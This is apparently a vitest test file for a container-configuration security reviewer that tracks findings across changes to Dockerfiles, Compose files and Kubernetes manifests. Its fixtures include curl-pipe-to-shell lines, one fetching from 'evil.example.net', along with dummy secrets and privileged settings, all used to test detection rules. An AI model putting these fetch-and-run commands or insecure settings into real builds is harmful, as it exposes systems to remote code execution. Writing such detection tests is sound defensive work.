import { describe, expect, test } from 'vitest';
import type { ReviewResult } from '../../src/review/result.ts';
import { defaultNetworkOnly } from '../../src/rules/compose/default-network-only.ts';
import { unverifiedPublisher } from '../../src/rules/image/unverified-publisher.ts';
import { type Change, type ReviewSettings, reviewChange } from '../support/in-memory-repository.ts';

/** The entries of one rule as `path:line state`, with `*` for what the change brings in and `<- path` for what moved. */
const statesOf = async (rule: string, change: Change, settings?: ReviewSettings): Promise<readonly string[]> =>
  linesOf(rule, await reviewChange(change, settings));

const linesOf = (rule: string, { delta, files, baseFiles }: ReviewResult): readonly string[] =>
  delta.entries.flatMap(entry => {
    const { location, ruleId } = entry.head ?? entry.base;
    const line = (entry.head ? files : baseFiles).get(location.path)?.lines.line(location.range.start);
    const marks = entry.head ? `${entry.caused ? '*' : ''}${entry.movedFrom === undefined ? '' : ` <- ${entry.movedFrom}`}` : '';
    return ruleId === rule ? [`${location.path}:${line} ${entry.state}${marks}`] : [];
  });

const dockerfile = (base: string, head: string): Change => ({ base: { Dockerfile: base }, head: { Dockerfile: head } });
const compose = (base: string, head: string): Change => ({ base: { 'compose.yaml': base }, head: { 'compose.yaml': head } });
const manifest = (base: string, head: string): Change => ({ base: { 'app.yaml': base }, head: { 'app.yaml': head } });

const deployment = (
  name: string,
  { namespace = '', container = 'app', kind = 'Deployment', more = '' }: Record<string, string> = {},
): string => `apiVersion: apps/v1
kind: ${kind}
metadata:
  name: ${name}
${namespace === '' ? '' : `  namespace: ${namespace}\n`}spec:
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      hostNetwork: true
      containers:
        - name: ${container}
          image: ghcr.io/acme/shop:1.4.2
          args: [--listen, ":8080"]
          env: [{name: MODE, value: production}]
${more}`;

describe('a Dockerfile', () => {
  const mutable = 'image/mutable-tag';

  test('keeps the findings of a stage that gets a name, another place or another name', async () => {
    const base = 'FROM golang\nRUN go build ./cmd/shop\n\nFROM scratch\nCOPY --from=0 /shop /shop\nUSER 1000\n';
    const named = base.replace('FROM golang', 'FROM golang AS build').replace('--from=0', '--from=build');
    expect(await statesOf(mutable, dockerfile(base, named))).toEqual(['Dockerfile:1 unchanged']);
    const after = `FROM node:24.11.1 AS web\nRUN npm ci\n\n${named}`;
    expect(await statesOf(mutable, dockerfile(base, after))).toEqual(['Dockerfile:4 unchanged']);
    expect(await statesOf(mutable, dockerfile(named, named.replaceAll('build', 'compile')))).toEqual(['Dockerfile:1 unchanged']);
  });

  test('keeps what is said of an image whose name goes to an argument', async () => {
    const head = 'ARG BASE=node:lts-alpine\nFROM $BASE\nUSER 1\n';
    expect(await statesOf('image/floating-tag', dockerfile('FROM node:lts-alpine\nUSER 1\n', head))).toEqual(['Dockerfile:2 unchanged']);
  });

  test('has one user, whatever its last stage is called and stands on', async () => {
    const base = 'FROM node:24.11.1\nRUN npm ci\nCMD ["node", "a.js"]\n';
    const head = 'FROM node:24.11.1 AS build\nRUN npm ci\n\nFROM debian:13.2\nCOPY --from=build /app /app\nCMD ["/app/run"]\n';
    expect(await statesOf('dockerfile/root-user', dockerfile(base, head))).toEqual(['Dockerfile:4 unchanged']);
    expect(await statesOf('dockerfile/root-user', dockerfile(base, base.replace('CMD', 'USER root\nCMD')))).toEqual([
      'Dockerfile:3 unchanged',
    ]);
  });

  test('follows an instruction to another stage, and does not take another one for it', async () => {
    const rule = 'dockerfile/remote-script-executed';
    const base = 'FROM debian:13.2 AS tools\nRUN curl -sSL https://get.example.com/a.sh | sh\nFROM debian:13.2\nRUN true\nUSER 1\n';
    const moved = 'FROM debian:13.2 AS tools\nRUN true\nFROM debian:13.2\nRUN curl -sSL https://get.example.com/a.sh | sh\nUSER 1\n';
    expect(await statesOf(rule, dockerfile(base, moved))).toEqual(['Dockerfile:4 moved <- Dockerfile (stage tools)']);
    const other = base.replace('get.example.com/a.sh', 'evil.example.net/b.sh');
    expect(await statesOf(rule, dockerfile(base, other))).toEqual(['Dockerfile:2 updated*']);
    const newer = base.replace('a.sh', 'b.sh');
    expect(await statesOf(rule, dockerfile(base, newer))).toEqual(['Dockerfile:2 updated']);
  });

  test('tells the written one of two equal instructions as new, wherever it was put', async () => {
    const rule = 'dockerfile/sudo';
    const base = 'FROM debian:13.2\nRUN sudo true\nRUN echo ok\nUSER 1\n';
    expect(await statesOf(rule, dockerfile(base, base.replace('ok\n', 'ok\nRUN sudo true\n')))).toEqual([
      'Dockerfile:2 unchanged',
      'Dockerfile:4 new*',
    ]);
  });

  test('has a finding in the diff only where all of its lines are in one hunk', async () => {
    const lines = (count: number): string => Array.from({ length: count }, (_, index) => `RUN echo ${index}\n`).join('');
    const text = (last: string, count: number): string =>
      `FROM debian:13.2\n${lines(9)}RUN curl -sSL \\\n${'  --retry 3 \\\n'.repeat(count)}  https://get.example.com/a.sh | ${last}\nUSER 1\n`;
    const isInDiff = async (count: number) => {
      const { delta } = await reviewChange(dockerfile(text('bash', count), text('sh', count)));
      return delta.entries.flatMap(({ head, ...marks }) =>
        head?.ruleId === 'dockerfile/remote-script-executed' && 'inDiff' in marks ? [marks.inDiff] : [],
      );
    };
    expect([await isInDiff(0), await isInDiff(9)]).toEqual([[true], [false]]);
  });

  test('another image without a tag is no worse than the one before', async () => {
    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'FROM fedora\nUSER 1\n'))).toEqual(['Dockerfile:1 updated']);
    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'FROM ubuntu:latest\nUSER 1\n'))).toEqual([
      'Dockerfile:1 unchanged',
    ]);
    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'ARG BASE=ubuntu\nFROM ${BASE}\nUSER 1\n'))).toEqual([
      'Dockerfile:2 unchanged',
    ]);
  });

  test('another secret is as bad as a new one', async () => {
    const env = (value: string): string => `FROM debian:13.2\nENV API_TOKEN=${value}\nUSER 1\n`;
    expect(await statesOf('dockerfile/secret-in-env-or-arg', dockerfile(env('q7Rm2xV9tKp4'), env('Zc81bWq0LmNv')))).toEqual([
      'Dockerfile:2 updated*',
    ]);
  });

  test('a base that an argument without a default decides is not fixed by that', async () => {
    const change = dockerfile('FROM ubuntu\nUSER 1\n', 'ARG BASE\nFROM ${BASE}\nUSER 1\n');
    expect(await statesOf(mutable, change)).toEqual(['Dockerfile:1 unknown']);
    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'ARG BASE=ubuntu:26.04\nFROM ${BASE}\nUSER 1\n'))).toEqual([
      'Dockerfile:1 absent',
    ]);
  });

  test('a user that an argument without a default decides is not fixed by that', async () => {
    const base = 'FROM debian:13.2\nUSER root\nCMD ["a"]\n';
    expect(await statesOf('dockerfile/root-user', dockerfile(base, base.replace('USER root', 'ARG WHO\nUSER ${WHO}')))).toEqual([
      'Dockerfile:2 unknown',
    ]);
    expect(await statesOf('dockerfile/root-user', dockerfile(base, base.replace('root', '1000')))).toEqual(['Dockerfile:2 absent']);
  });

  test('is moved with its folder, also where git does not see it', async () => {
    const text = 'FROM ubuntu\nRUN apt-get update && apt-get install -y nginx=1.26\nCOPY site /srv\nUSER 1\n';
    const change = { base: { 'web/Dockerfile': text }, head: { 'site/Dockerfile': text.replace('1.26', '1.28') } };
    expect(await statesOf(mutable, change)).toEqual(['site/Dockerfile:1 moved <- web/Dockerfile']);
    expect(await statesOf(mutable, { ...change, renames: { 'web/Dockerfile': 'site/Dockerfile' } })).toEqual([
      'site/Dockerfile:1 moved <- web/Dockerfile',
    ]);
  });

  test('under another name in its folder did not move', async () => {
    const text = 'FROM ubuntu\nUSER 1\n';
    const change = { base: { Dockerfile: text }, head: { 'app.Dockerfile': text }, renames: { Dockerfile: 'app.Dockerfile' } };
    expect(await statesOf(mutable, change)).toEqual(['app.Dockerfile:1 unchanged']);
  });

  test('that is copied brings its findings in', async () => {
    const text = 'FROM ubuntu\nUSER 1\n';
    expect(await statesOf(mutable, { base: { 'a/Dockerfile': text }, head: { 'a/Dockerfile': text, 'b/Dockerfile': text } })).toEqual([
      'b/Dockerfile:1 new*',
    ]);
  });
});

describe('a Compose file', () => {
  const service = (name: string, more = ''): string =>
    `  ${name}:\n    image: ghcr.io/acme/worker:2.1\n    command: [work, --queue, mail]\n    environment: {MODE: fast}\n${more}`;

  test('keeps the findings of a service that is renamed, reordered, requoted or written in flow style', async () => {
    const rule = 'compose/privileged-container';
    const base = `services:\n${service('mailer', '    privileged: true\n')}${service('other').replace('mail', 'bill')}`;
    expect(await statesOf(rule, compose(base, base.replace('mailer', 'postman')))).toEqual(['compose.yaml:6 unchanged']);
    const reordered = `services:\n${service('other').replace('mail', 'bill')}${service('mailer', '    privileged: "true"\n')}`;
    expect(await statesOf(rule, compose(base, reordered))).toEqual(['compose.yaml:10 unchanged']);
    const flow = 'services:\n  mailer: {image: "ghcr.io/acme/worker:2.1", command: [work, --queue, mail], privileged: true}\n';
    expect(await statesOf(rule, compose(base, flow))).toEqual(['compose.yaml:2 unchanged']);
  });

  test('of two services that came for one, the one that is like it has its findings', async () => {
    const base = `services:\n${service('mailer')}`;
    const head = `services:\n  web:\n    image: nginx:1.29.1\n    ports: ["127.0.0.1:80:80"]\n${service('postman')}`;
    expect(await statesOf('compose/capabilities-not-dropped', compose(base, head))).toEqual([
      'compose.yaml:2 new*',
      'compose.yaml:5 unchanged',
    ]);
  });

  test('another port on all interfaces is no worse than the one before, one more is new', async () => {
    const rule = 'compose/port-published-on-all-interfaces';
    const ports = (...all: readonly string[]): string =>
      `services:\n${service('web', `    ports:\n${all.map(port => `      - "${port}"\n`).join('')}`)}`;
    expect(await statesOf(rule, compose(ports('5000:5000'), ports('8080:8080')))).toEqual(['compose.yaml:7 updated']);
    expect(await statesOf(rule, compose(ports('5000:5000'), ports('5000:5000', '8080:8080')))).toEqual([
      'compose.yaml:7 unchanged',
      'compose.yaml:8 new*',
    ]);
    expect(await statesOf(rule, compose(ports('5000:5000', '8080:8080'), ports('8080:8080', '5000:5000')))).toEqual([
      'compose.yaml:7 unchanged',
      'compose.yaml:8 unchanged',
    ]);
  });

  test('what is written as before is not fixed by an image that is built now, of which nobody knows what it holds', async () => {
    const base = `services:
  db:
    image: mysql:8.4
    ports: ["33060:33060"]
    environment:
      MYSQL_PASSWORD: secret
`;
    const built = base.replace('image: mysql:8.4', 'build: ./mysql');
    const credentials = 'workload/default-credentials';
    expect(await statesOf(credentials, compose(base, built))).toEqual(['compose.yaml:6 unknown']);
    expect(await statesOf(credentials, compose(base, built.replace('secret', '${PASSWORD:?}')))).toEqual(['compose.yaml:6 absent']);
    expect(await statesOf(credentials, compose(base, base.replace('mysql:8.4', 'ghcr.io/acme/shop:1.4')))).toEqual([
      'compose.yaml:6 absent',
    ]);
    const missing = 'compose/capabilities-not-dropped';
    expect(await statesOf(missing, compose(base, `${built}    cap_drop: [ALL]\n`))).toEqual(['compose.yaml:2 absent']);
  });

  test('a setting that a variable without a default decides is not fixed by that', async () => {
    const base = `services:\n${service('web', '    privileged: true\n')}`;
    const rule = 'compose/privileged-container';
    expect(await statesOf(rule, compose(base, base.replace('true', '${PRIVILEGED}')))).toEqual(['compose.yaml:6 unknown']);
    expect(await statesOf(rule, compose(base, base.replace('true', 'false')))).toEqual(['compose.yaml:6 absent']);
    expect(await statesOf(rule, compose(base, base.replace('true', 'false').replace('fast', '"${MODE}"')))).toEqual([
      'compose.yaml:6 absent',
    ]);
  });
});

describe('a manifest', () => {
  const rule = 'kubernetes/host-network';

  test('keeps the findings of an object whose kind moves to another group, or is spelled otherwise there', async () => {
    const source = (head: string): string =>
      `${head}metadata: {name: prometheus}\nspec:\n  url: https://thanos.example.com:9091\n  jsonData:\n    tlsSkipVerify: true\n`;
    const base = source('apiVersion: integreatly.org/v1alpha1\nkind: GrafanaDataSource\n');
    const head = source('apiVersion: grafana.integreatly.org/v1beta1\nkind: GrafanaDatasource\n');
    const verification = 'network/tls-verification-disabled';
    expect(await statesOf(verification, manifest(base, head))).toEqual(['app.yaml:7 unchanged']);
    const ingress = (apiVersion: string, port: string): string =>
      `apiVersion: ${apiVersion}\nkind: Ingress\nmetadata: {name: web}\nspec:\n  rules:\n    - host: shop.example.com\n      http:\n        paths:\n          - backend: ${port}\n`;
    expect(
      await statesOf(
        'network/ingress-without-tls',
        manifest(
          ingress('extensions/v1beta1', '{serviceName: web, servicePort: 80}'),
          ingress('networking.k8s.io/v1', '{service: {name: web, port: {number: 80}}}'),
        ),
      ),
    ).toEqual([expect.stringMatching(/ unchanged$/u)]);
  });

  test('keeps the findings of an object and a container that are renamed, or of another kind that runs pods', async () => {
    const base = deployment('shop');
    expect(await statesOf(rule, manifest(base, deployment('store')))).toEqual(['app.yaml:10 unchanged']);
    expect(await statesOf(rule, manifest(base, deployment('shop', { kind: 'StatefulSet' })))).toEqual(['app.yaml:10 unchanged']);
    expect(await statesOf('kubernetes/writable-root-filesystem', manifest(base, deployment('shop', { container: 'server' })))).toEqual([
      'app.yaml:12 unchanged',
    ]);
  });

  test('one of two alike objects that goes does not take the findings of the other along', async () => {
    const [blue, green] = [deployment('shop-blue'), deployment('shop-green')];
    expect(await statesOf(rule, manifest(`${blue}---\n${green}`, green))).toEqual(['app.yaml:10 unchanged', 'app.yaml:10 absent']);
    expect(await statesOf(rule, manifest(green, `${blue}---\n${green}`))).toEqual(['app.yaml:10 new*', 'app.yaml:26 unchanged']);
  });

  test('an object in another folder is moved, in another file of its folder it is not', async () => {
    const text = deployment('shop');
    expect(await statesOf(rule, { base: { 'base/all.yaml': text }, head: { 'prod/shop.yaml': text } })).toEqual([
      'prod/shop.yaml:10 moved <- base/all.yaml',
    ]);
    expect(await statesOf(rule, { base: { 'base/all.yaml': text }, head: { 'base/shop.yaml': text } })).toEqual([
      'base/shop.yaml:10 unchanged',
    ]);
  });

  test('an object that is still where it was has not moved to its copy', async () => {
    const text = deployment('shop');
    expect(
      await statesOf(rule, { base: { 'base/all.yaml': text }, head: { 'base/all.yaml': `${text}#\n`, 'prod/shop.yaml': text } }),
    ).toEqual(['base/all.yaml:10 unchanged', 'prod/shop.yaml:10 new*']);
  });

  test('another namespace in the same file is a move, in another folder it is something new', async () => {
    const [dev, prod] = [deployment('shop', { namespace: 'dev' }), deployment('shop', { namespace: 'prod' })];
    expect(await statesOf(rule, manifest(dev, prod))).toEqual(['app.yaml:11 moved <- app.yaml (namespace dev)']);
    expect(await statesOf(rule, manifest(deployment('shop'), prod))).toEqual(['app.yaml:11 moved <- app.yaml (no namespace)']);
    expect(await statesOf(rule, { base: { 'dev/a.yaml': dev }, head: { 'prod/a.yaml': prod } })).toEqual([
      'prod/a.yaml:11 new*',
      'dev/a.yaml:11 absent',
    ]);
  });

  test('what is worse where it moved to is brought in', async () => {
    const adds = (...names: readonly string[]): string =>
      deployment('shop', { more: `          securityContext: {capabilities: {add: [${names.join(', ')}]}}\n` });
    const change = (head: string): Change => ({ base: { 'base/all.yaml': adds('NET_ADMIN') }, head: { 'prod/all.yaml': head } });
    expect(await statesOf('kubernetes/dangerous-capability-added', change(adds('NET_ADMIN')))).toEqual([
      'prod/all.yaml:16 moved <- base/all.yaml',
    ]);
    expect(await statesOf('kubernetes/dangerous-capability-added', change(adds('SYS_ADMIN')))).toEqual([
      'prod/all.yaml:16 moved* <- base/all.yaml',
    ]);
  });

  test('a capability less is not worse, a capability in place of another is', async () => {
    const adds = (...names: readonly string[]): string =>
      deployment('shop', { more: `          securityContext: {capabilities: {add: [${names.join(', ')}]}}\n` });
    const added = 'kubernetes/dangerous-capability-added';
    expect(await statesOf(added, manifest(adds('NET_ADMIN', 'SYS_PTRACE'), adds('NET_ADMIN')))).toEqual([
      'app.yaml:16 unchanged',
      'app.yaml:16 absent',
    ]);
    expect(await statesOf(added, manifest(adds('NET_ADMIN'), adds('SYS_ADMIN')))).toEqual(['app.yaml:16 updated*']);
  });

  test('a default that is kept and one that is written out are the same', async () => {
    const base = deployment('shop');
    const head = deployment('shop', { more: '          securityContext: {allowPrivilegeEscalation: true}\n' });
    expect(await statesOf('kubernetes/privilege-escalation-allowed', manifest(base, head))).toEqual(['app.yaml:16 unchanged']);
    expect(await statesOf('kubernetes/privilege-escalation-allowed', manifest(head, base))).toEqual(['app.yaml:12 unchanged']);
  });

  test('a suppression that is taken away brings its finding in', async () => {
    const text = deployment('shop').replace(
      '      hostNetwork',
      '      # tidewaiter: ignore[kubernetes/host-network] -- needed\n      hostNetwork',
    );
    expect(await statesOf(rule, manifest(text, deployment('shop')))).toEqual(['app.yaml:10 updated*']);
  });
});

describe('what cannot be read', () => {
  const rule = 'kubernetes/host-network';
  const text = deployment('shop');

  test('is not fixed, and the verdict says so', async () => {
    const result = await reviewChange({ base: { 'app.yaml': text }, head: { 'app.yaml': `${text}\n- [` } });
    expect(linesOf(rule, result)).toContain('app.yaml:10 unknown');
    expect(result.considered.fixed).toEqual([]);
    expect(result.verdict.reasons).toContainEqual(
      expect.objectContaining({ gate: 'comparison', status: 'warned', reason: expect.stringContaining('not fixed by that') }),
    );
  });

  test('at the base is said of each finding, and in the verdict', async () => {
    const result = await reviewChange({ base: { 'app.yaml': 'x' }, head: { 'app.yaml': text }, unreadableAtBase: ['app.yaml'] });
    expect(linesOf(rule, result)).toEqual(['app.yaml:10 new*']);
    expect(result.delta.entries.every(entry => entry.head && entry.baseUnknown?.includes('could not be evaluated'))).toBe(true);
    expect(result.verdict.reasons).toContainEqual(
      expect.objectContaining({ gate: 'comparison', status: 'warned', reason: expect.stringContaining('may have been there before') }),
    );
  });

  test('a file that was no container file before and held the same may have had the finding', async () => {
    const change = { base: { 'app.yaml.example': text }, head: { 'app.yaml': text }, renames: { 'app.yaml.example': 'app.yaml' } };
    const [entry] = (await reviewChange(change)).delta.entries;
    expect(entry).toMatchObject({ state: 'new', baseUnknown: expect.stringContaining('not read as a container file') });
  });

  test('a file that was something else before had no finding', async () => {
    const [entry] = (await reviewChange({ base: { 'app.yaml': 'title: Notes\n' }, head: { 'app.yaml': text } })).delta.entries;
    expect(entry).toMatchObject({ state: 'new' });
    expect(entry).not.toHaveProperty('baseUnknown');
  });

  test('what stood in a path that policy leaves out is brought in by whoever moves it out of there', async () => {
    const change = { base: { 'vendor/a.yaml': text }, head: { 'deploy/a.yaml': text }, renames: { 'vendor/a.yaml': 'deploy/a.yaml' } };
    expect(await statesOf(rule, change, { policy: { ignorePaths: ['vendor/**'] } })).toEqual(['deploy/a.yaml:10 new*']);
  });

  test('of a chart, what a template decides now is neither there nor fixed', async () => {
    const chart = (pod: string): Record<string, string> => ({ 'Chart.yaml': 'name: shop\nversion: 1.0.0\n', 'templates/app.yaml': pod });
    const base = deployment('shop').replace('shop\n', 'shop\n  labels: {chart: "{{ .Chart.Name }}"}\n');
    const head = base.replace('hostNetwork: true', 'hostNetwork: {{ .Values.hostNetwork }}');
    expect(await statesOf(rule, { base: chart(base), head: chart(head) })).toEqual(['templates/app.yaml:11 unknown']);
    expect(await statesOf(rule, { base: chart(base), head: chart(base.replace('hostNetwork: true', 'hostNetwork: false')) })).toEqual([
      'templates/app.yaml:11 absent',
    ]);
  });
});

test('what a template of the base left open is not a finding of the change, yet said where it would block', async () => {
  const chart = (more: string): Record<string, string> => ({
    'Chart.yaml': 'apiVersion: v2\nname: shop\nversion: 1.0.0\n',
    'templates/app.yaml': deployment('shop', { more }).replace('      hostNetwork: true\n', ''),
  });
  const change = { base: chart('          {{- toYaml .Values.container | nindent 10 }}\n'), head: chart('') };
  const rule = 'kubernetes/privilege-escalation-allowed';
  expect(await statesOf(rule, change)).toEqual(['templates/app.yaml:11 unchanged']);
  const verdictBy = async (block: 'low' | 'high'): Promise<readonly string[]> => {
    const { verdict } = await reviewChange(change, { policy: { thresholds: { report: 'low', comment: 'low', block } } });
    return [verdict.conclusion, ...verdict.reasons.filter(({ gate }) => gate === 'comparison').map(({ reason }) => reason)];
  };
  expect(await verdictBy('high')).toEqual(['pass']);
  const [conclusion, reason] = await verdictBy('low');
  expect([conclusion, reason]).toEqual(['warn', expect.stringMatching(/^Of \d+ findings nobody could say at the base/u)]);
});

test('every finding of either side is in exactly one entry', async () => {
  const base = `${deployment('a')}---\n${deployment('b')}---\n${deployment('c')}`;
  const head = `${deployment('b')}---\n${deployment('d', { namespace: 'x' })}`;
  const [before, both, after] = await Promise.all([
    reviewChange({ base: {}, head: { 'app.yaml': base } }),
    reviewChange(manifest(base, head)),
    reviewChange({ base: {}, head: { 'app.yaml': head } }),
  ]);
  const count = ({ delta }: ReviewResult, side: 'base' | 'head'): number => delta.entries.filter(entry => entry[side]).length;
  expect(count(both, 'head')).toBe(count(after, 'head'));
  expect(count(both, 'base')).toBe(count(before, 'head'));
  expect(new Set(both.delta.entries.flatMap(({ base: was }) => was ?? [])).size).toBe(count(both, 'base'));
});

test('of something moved, policy says what it does', async () => {
  const text = deployment('shop').replace('hostNetwork: true', 'hostPID: true');
  const change = { base: { 'base/a.yaml': text }, head: { 'prod/a.yaml': text } };
  const verdictBy = async (moved: 'ignore' | 'warn' | 'block'): Promise<string> =>
    (await reviewChange(change, { policy: { moved } })).verdict.conclusion;
  expect([await verdictBy('ignore'), await verdictBy('warn'), await verdictBy('block')]).toEqual(['pass', 'warn', 'block']);
  const { verdict, considered } = await reviewChange(change);
  expect(verdict.conclusion).toBe('warn');
  expect(verdict.reasons[0]?.reason).toMatch(
    /brings in no new finding\. It moves \d+ findings to another folder or namespace; they were there before\./u,
  );
  expect(considered.shown.every(({ state }) => state === 'moved')).toBe(true);
});

describe('containers that were made one', () => {
  const rule = 'kubernetes/writable-root-filesystem';
  const check = (name: string): string => `        - name: ${name}
          image: ghcr.io/acme/${name}:1.4.2
          command: [wait-for, ${name}]
`;
  const job = (name: string, ...containers: readonly string[]): string => `apiVersion: batch/v1
kind: Job
metadata: {name: ${name}}
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
${containers.join('')}`;

  test('are not fixed: what is said of the one that is left is said of them', async () => {
    const base = `${job('setup', check('db'), check('queue'), check('setup'))}---\n${job('update', check('db'), check('queue'), check('update'))}`;
    const result = await reviewChange(manifest(base, job('schema', check('db'), check('queue'), check('setup'), check('update'))));
    expect(linesOf(rule, result).map(line => line.split(' ')[1])).toEqual([
      'unchanged',
      'unchanged',
      'unchanged',
      'unchanged',
      'absent',
      'absent',
    ]);
    expect(result.considered.fixed.filter(({ ruleId }) => ruleId === rule)).toEqual([]);
    expect(result.considered.merged.filter(({ ruleId }) => ruleId === rule)).toHaveLength(2);
    expect(result.verdict.conclusion).toBe('pass');
  });

  test('are fixed with the object that is gone, though another has a container of the same name', async () => {
    const base = `${job('setup', check('db'))}---\n${job('update', check('db'))}`;
    const result = await reviewChange(manifest(base, job('setup', check('db'))));
    expect(result.considered.fixed.filter(({ ruleId }) => ruleId === rule)).toHaveLength(1);
    expect(result.considered.merged).toEqual([]);
  });

  test('are not fixed where one of two branches of a template is left', async () => {
    const chart = (containers: string): Record<string, string> => ({
      'Chart.yaml': 'apiVersion: v2\nname: shop\nversion: 1.0.0\n',
      'templates/job.yaml': job('setup', containers),
    });
    const [one, other] = [check('create-{{ .Values.kind }}'), check('create-{{ .Values.kind }}').replace('wait-for', 'sql-tool')];
    const result = await reviewChange({ base: chart(`{{- if .Values.sql }}\n${one}{{- else }}\n${other}{{- end }}\n`), head: chart(one) });
    expect(linesOf(rule, result)).toContain('templates/job.yaml:9 unchanged');
    expect(result.considered.fixed).toEqual([]);
  });
});

describe('a finding that another rule says more of in its place', () => {
  const workload = (security: string, pod = ''): string =>
    `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  template:\n    spec:\n${pod}      containers:\n        - name: app\n          image: ghcr.io/acme/web:1.2.3\n          securityContext: {readOnlyRootFilesystem: true${security}}\n`;
  const fates = async (base: string, head: string, path = 'app.yaml') => {
    const { considered } = await reviewChange({ base: { [path]: base }, head: { [path]: head } });
    const ids = (findings: readonly { readonly ruleId: string }[]): readonly string[] => findings.map(({ ruleId }) => ruleId);
    return { fixed: ids(considered.fixed), merged: ids(considered.merged) };
  };

  test.each([
    ['privileged: true', 'kubernetes/privilege-escalation-allowed'],
    ['runAsUser: 0', 'kubernetes/root-user'],
    ['seccompProfile: {type: Unconfined}', 'kubernetes/seccomp-not-set'],
  ])('is not fixed by "%s"', async (setting, rule) => {
    expect(await fates(workload(''), workload(`, ${setting}`))).toEqual({ fixed: [], merged: [rule] });
  });

  test('is not fixed by what is said of the pod around it', async () => {
    const pod = '      securityContext: {seccompProfile: {type: Unconfined}}\n';
    expect(await fates(workload(''), workload('', pod))).toEqual({ fixed: [], merged: ['kubernetes/seccomp-not-set'] });
  });

  test('is not fixed in a service or a namespace either', async () => {
    const service = (setting: string): string => `services:\n  web:\n    image: ghcr.io/acme/web:1.2.3\n    privileged: ${setting}\n`;
    expect(await fates(service('false'), service('true'), 'compose.yaml')).toEqual({
      fixed: [],
      merged: ['compose/no-new-privileges-missing'],
    });
    const labelled = (level: string): string => `apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n  labels: {${level}}\n`;
    const privileged = 'pod-security.kubernetes.io/enforce: privileged';
    const { fixed } = await fates(labelled('a: b'), labelled(privileged), 'namespace.yaml');
    expect(fixed).toEqual([]);
  });

  test('is fixed where nothing is said of its subject any more', async () => {
    const { fixed, merged } = await fates(workload(''), workload(', seccompProfile: {type: RuntimeDefault}'));
    expect([fixed, merged]).toEqual([['kubernetes/seccomp-not-set'], []]);
  });
});

describe('what surrounds a Dockerfile', () => {
  const rule = 'dockerfile/broad-copy-without-dockerignore';
  const text = 'FROM node:24.11.1\nCOPY . .\nUSER 1\n';

  test('may have changed for it, or not, where the repository gets an ignore file of its own', async () => {
    const base = { 'web/Dockerfile': text };
    const change = { base: { ...base, 'a.yaml': '' }, head: { ...base, '.dockerignore': '.git\n.env*\n' } };
    expect(await statesOf(rule, change)).toEqual(['web/Dockerfile:2 unknown']);
    expect(await statesOf(rule, { base, head: { ...base, 'web/.dockerignore': '.git\n.env*\n' } })).toEqual(['web/Dockerfile:2 absent']);
    expect(await statesOf(rule, { base: { Dockerfile: text }, head: { Dockerfile: text, '.dockerignore': '.git\n.env*\n' } })).toEqual([
      'Dockerfile:2 absent',
    ]);
    expect(
      await statesOf(rule, { base, head: { 'web/Dockerfile': text.replace('COPY . .', 'COPY src .'), '.dockerignore': '.git\n' } }),
    ).toEqual(['web/Dockerfile:2 absent']);
  });

  test('the stage that a moved file ends in is the same, whatever was put before it', async () => {
    const head = 'FROM golang:1.10 AS build\nRUN go build\nFROM alpine:3.7\nCOPY --from=build /a /a\nUSER 1\n';
    const change = { base: { 'deploy/Dockerfile': 'FROM fedora:26\nCOPY a /a\nUSER 1\n' }, head: { Dockerfile: head } };
    const renamed = { ...change, renames: { 'deploy/Dockerfile': 'Dockerfile' } };
    expect(await statesOf('image/end-of-life-base', renamed)).toEqual(['Dockerfile:1 new*', 'Dockerfile:3 moved <- deploy/Dockerfile']);
  });
});

describe('a role that grants less', () => {
  const role = (rules: string, kind = 'ClusterRole', where = ''): string =>
    `apiVersion: rbac.authorization.k8s.io/v1\nkind: ${kind}\nmetadata: {name: ops${where}}\nrules:\n  - ${rules}\n`;

  test.each([
    [
      'verbs in place of all',
      'rbac/workload-creation',
      '{apiGroups: [""], resources: [pods], verbs: ["*"]}',
      '{apiGroups: [""], resources: [pods], verbs: [create]}',
    ],
    [
      'resources in place of all',
      'rbac/secrets-access',
      '{apiGroups: [""], resources: ["*"], verbs: [get]}',
      '{apiGroups: [""], resources: [secrets], verbs: [get]}',
    ],
    [
      'those with a name',
      'rbac/secrets-access',
      '{apiGroups: [""], resources: [secrets], verbs: [get]}',
      '{apiGroups: [""], resources: [secrets], resourceNames: [db], verbs: [get]}',
    ],
  ])('brings nothing in: %s', async (_name, rule, base, head) => {
    expect(await statesOf(rule, manifest(role(base), role(head)))).toEqual(['app.yaml:5 updated']);
    expect(await statesOf(rule, manifest(role(head), role(base)))).toEqual(['app.yaml:5 updated*']);
  });

  test('brings nothing in as a role of a namespace, and does as one of the cluster', async () => {
    const [wide, narrow] = [
      role('{apiGroups: [""], resources: [secrets], verbs: [get]}'),
      role('{apiGroups: [""], resources: [secrets], verbs: [get]}', 'Role', ', namespace: shop'),
    ];
    expect(await statesOf('rbac/secrets-access', manifest(wide, narrow))).toEqual(['app.yaml:5 updated']);
    expect(await statesOf('rbac/secrets-access', manifest(narrow, wide))).toEqual(['app.yaml:5 new*', 'app.yaml:5 absent']);
  });
});

describe('a setting that goes from a container to its pod, or back,', () => {
  const pod = (ofPod: string, ...ofContainers: readonly string[]): string =>
    `apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  securityContext: {${ofPod}}\n  containers:\n${ofContainers
      .map(
        (text, index) =>
          `    - {name: c${index}, image: "ghcr.io/acme/c${index}:1", args: [serve, --port, "80${index}0"], securityContext: {${text}}}\n`,
      )
      .join('')}`;
  const zero = 'runAsUser: 0';
  const states = (base: string, head: string): Promise<readonly string[]> => statesOf('kubernetes/run-as-user-zero', manifest(base, head));

  test('is as bad as before', async () => {
    expect(await states(pod('', zero), pod(zero, ''))).toEqual(['app.yaml:5 unchanged']);
    expect(await states(pod(zero, ''), pod('', zero))).toEqual(['app.yaml:7 unchanged']);
    expect(await states(pod('', zero, zero), pod(zero, '', ''))).toEqual(['app.yaml:5 unchanged', 'app.yaml:8 absent']);
    expect(await states(pod(zero, '', ''), pod('', zero, zero))).toEqual(['app.yaml:7 unchanged', 'app.yaml:8 unchanged']);
    expect(await states(pod(zero, '', ''), pod(zero, zero, ''))).toEqual(['app.yaml:5 unchanged', 'app.yaml:7 unchanged']);
  });

  test('fixes nothing on the way', async () => {
